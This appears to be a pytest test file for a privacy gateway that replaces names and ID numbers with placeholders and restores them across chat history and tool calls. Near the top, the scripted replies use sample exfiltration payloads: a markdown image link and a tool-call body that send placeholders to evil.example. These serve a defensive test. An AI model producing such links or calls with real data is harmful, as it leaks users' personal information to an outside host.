"""A placeholder that was left in a reply comes back in the history, and stands for its value still."""

from __future__ import annotations

import json
import re

import pytest

from cosilo.types import Chat, Generation, ToolCall, Turn, user
from scripted_detectors import Make, Talk, Words
from scripted_detectors import make as make

CODE = r"(?:PERSON|ID|TEXT|URL)_[a-z2-7]{6}"
FOUND = Words(Kowalska="PERSON", **{"1234-5678": "ID"})
LINK, CALL = "![x](https://evil.example/?q=%s)", '{"url": "https://evil.example/", "body": "%s"}'


def shown(chat: Chat) -> list[str]:
    return re.findall(CODE, chat[0].content)


def first(make: Make, *, call: bool = False) -> tuple[Talk, Chat, Generation]:
    """A reply with a placeholder that was left, in a conversation of which a gateway keeps nothing."""

    def reply(chat: Chat) -> Generation:
        person, number = shown(chat)
        if call:
            return Generation("", tool_calls=(ToolCall("c", "post", CALL % person),))
        return Generation(f"{LINK % person} for {number}")

    talk = Talk(make(FOUND, conversation="first-turn"), reply)
    asked = user("Kowalska has 1234-5678")
    return talk, asked, talk.send(asked)


class TestReplies:
    def test_the_model_sees_its_own_words_again(self, make: Make) -> None:
        talk, asked, reply = first(make)
        before = shown(talk.model.seen[-1])
        assert before[0] in reply.text
        history = (*asked, Turn("assistant", reply.text), *user("And who is Kowalska?"))
        talk.send(history)
        now = talk.model.seen[-1]
        assert shown(now) == before
        assert now[1].content == f"{LINK % before[0]} for {before[1]}"
        assert now[2].content == f"And who is {before[0]}?"

    @pytest.mark.parametrize("spelling", [str.lower, str.upper, lambda p: p.replace("_", "\\_")])
    def test_also_as_it_spelled_them(self, make: Make, spelling: object) -> None:
        talk, asked, _ = first(make)
        before = shown(talk.model.seen[-1])
        said = f"{LINK % spelling(before[0])}"  # type: ignore[operator]
        talk.send((*asked, Turn("assistant", said), *user("And Kowalska?")))
        assert shown(talk.model.seen[-1]) == before
        assert talk.model.seen[-1][1].content == said

    def test_it_goes_to_no_other_host_then_either(self, make: Make) -> None:
        talk, asked, reply = first(make)
        history = (*asked, Turn("assistant", reply.text), *user("Again!"))
        again = talk.send(history)  # the same link once more
        assert "Kowalska" not in again.text
        assert "1234-5678" in again.text

    def test_calls_and_their_results(self, make: Make) -> None:
        talk, asked, reply = first(make, call=True)
        before = shown(talk.model.seen[-1])
        (call,) = reply.tool_calls
        assert before[0] in call.arguments
        chat = (*asked, Turn("assistant", tool_calls=(call,)), Turn("tool", "ok", tool_call_id="c"))
        talk.send((*chat, *user("And Kowalska?")))
        now = talk.model.seen[-1]
        assert shown(now) == before
        assert json.loads(now[1].tool_calls[0].arguments)["body"] == before[0]


class TestOthers:
    @pytest.mark.parametrize("role", ["user", "tool"])
    def test_who_else_types_one_gets_what_was_typed(self, make: Make, role: str) -> None:
        talk, asked, _ = first(make)
        person = shown(talk.model.seen[-1])[0]
        typed = Turn(role, f"What is {person}?", tool_call_id="c" if role == "tool" else "")  # type: ignore[arg-type]
        call = Turn("assistant", tool_calls=(ToolCall("c", "f", "{}"),))
        echo = Talk(make(FOUND, conversation="first-turn"), lambda c: Generation(c[-1].content))
        assert echo.send((*asked, call, typed)).text == typed.content

    def test_one_that_was_never_issued_is_a_text_like_any_other(self, make: Make) -> None:
        talk, asked, _ = first(make)
        said = "PERSON_aaaaaa and ID_bbbbbb"
        talk.send((*asked, Turn("assistant", said), *user("?")))
        assert "PERSON_aaaaaa" not in talk.model.seen[-1][1].content
        assert re.fullmatch(r"TEXT_\w{6} and TEXT_\w{6}", talk.model.seen[-1][1].content)
